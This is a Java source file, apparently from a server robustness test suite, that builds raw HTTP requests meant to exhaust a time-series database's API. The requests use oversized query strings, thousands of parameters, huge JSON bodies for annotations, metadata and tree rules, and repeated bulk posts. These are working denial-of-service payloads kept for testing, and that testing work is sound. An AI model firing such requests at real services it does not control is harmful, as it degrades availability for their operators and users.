package org.hourstone.tsd;

import static java.nio.charset.StandardCharsets.ISO_8859_1;

import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.hourstone.tsd.HostileConnections.Manner;

/** Attacks with requests of which much more is made than was sent. */
final class CostlyRequests {
  private static final String HOST = " HTTP/1.1\r\nHost: localhost\r\n";

  /** The characters of a long query string. */
  private static final int QUERY_STRING = 60_000;

  /** Those of a connection, at least. */
  private static final int SENT = 200_000;

  private CostlyRequests() {}

  static List<AttackKind> all() {
    String text = "x".repeat(60_000);
    String large = text.repeat(16);
    return List.of(
        kind("many parameters", "", get("/api/query?" + words("&"))),
        kind("many names in a query string", "", get("/api/uid/assign?metric=" + words(","))),
        kind(
            "many names",
            "",
            post("/api/uid/assign", "{\"tagv\":[\"" + words(30_000, "\",\"") + "\"]}")),
        kind(
            "a list with a long name",
            "",
            post(
                "/api/uid/assign",
                "{\"" + text.substring(12_000) + "\":[" + "1,".repeat(2_000) + "1]}")),
        kind("many values in a filter", "", post("/api/query", filter(words(50_000, "|")))),
        kind(
            "large annotations that are changed",
            post("/api/annotation", annotation("notes", large)),
            get("/api/annotation?start_time=" + AttackKind.START)
                + post("/api/annotation", annotation("description", "d"))
                + post(
                    "/api/annotation/bulk",
                    "["
                        + (annotation("description", "d") + ",").repeat(100)
                        + annotation("description", "d")
                        + "]")),
        kind(
            "large metadata",
            post("/api/uid/uidmeta", metadata("metric", text))
                + post("/api/uid/uidmeta", metadata("tagk", text))
                + post("/api/uid/uidmeta", metadata("tagv", text))
                + post(
                    "/api/uid/tsmeta?m=%s%%7Bh=a%%7D&create=true".formatted(AttackKind.LONG),
                    "{\"notes\":\"" + text + "\"}"),
            get("/api/uid/tsmeta?tsuid=000001000001000001")
                + get("/api/uid/tsmeta?m=" + AttackKind.LONG)
                + post("/api/uid/uidmeta", metadata("tagk", "n"))),
        kind(
            "large trees",
            post("/api/tree", "{\"name\":\"t\"}") + rule(0, text.repeat(2)) + rule(1, text),
            get("/api/tree") + get("/api/tree/rule?treeid=1&level=0&order=0") + rule(2, "n")),
        kind(
            "large lists",
            IntStream.range(0, 18)
                .mapToObj(
                    i ->
                        post(
                            "/api/uid/assign",
                            "{\"tagk\":[\"" + i + "." + "n".repeat(30_000) + "\"]}"))
                .collect(Collectors.joining()),
            get("/api/suggest?type=tagk&max=1000")));
  }

  /** Every connection begins with the first requests, and then repeats the others. */
  private static AttackKind kind(String name, String first, String others) {
    byte[] bytes = (first + others.repeat(1 + SENT / others.length())).getBytes(ISO_8859_1);
    return new AttackKind(
        name,
        false,
        (server, clients, context) ->
            new HostileConnections(server, clients, Manner.READING, bytes, first.length()));
  }

  private static String get(String target) {
    return "GET " + target + HOST + "\r\n";
  }

  private static String post(String target, String body) {
    return "POST " + target + HOST + "Content-Length: " + body.length() + "\r\n\r\n" + body;
  }

  private static String words(int count, String separator) {
    return IntStream.range(0, count)
        .mapToObj(i -> Integer.toString(i, Character.MAX_RADIX))
        .collect(Collectors.joining(separator));
  }

  /** As many as fit in a query string. */
  private static String words(String separator) {
    return words(QUERY_STRING / (3 + separator.length()), separator);
  }

  private static String filter(String values) {
    return ("{\"start\":%d,\"queries\":[{\"metric\":\"%s\",\"aggregator\":\"sum\",\"filters\":["
            + "{\"type\":\"literal_or\",\"tagk\":\"h\",\"filter\":\"%s\"}]}]}")
        .formatted(AttackKind.START, AttackKind.LONG, values);
  }

  private static String annotation(String member, String text) {
    return "{\"startTime\":%d,\"%s\":\"%s\"}".formatted(AttackKind.START, member, text);
  }

  private static String metadata(String type, String notes) {
    return "{\"uid\":\"000001\",\"type\":\"%s\",\"notes\":\"%s\"}".formatted(type, notes);
  }

  private static String rule(int level, String notes) {
    return post(
        "/api/tree/rule",
        "{\"treeId\":1,\"level\":%d,\"order\":0,\"type\":\"METRIC\",\"notes\":\"%s\"}"
            .formatted(level, notes));
  }
}
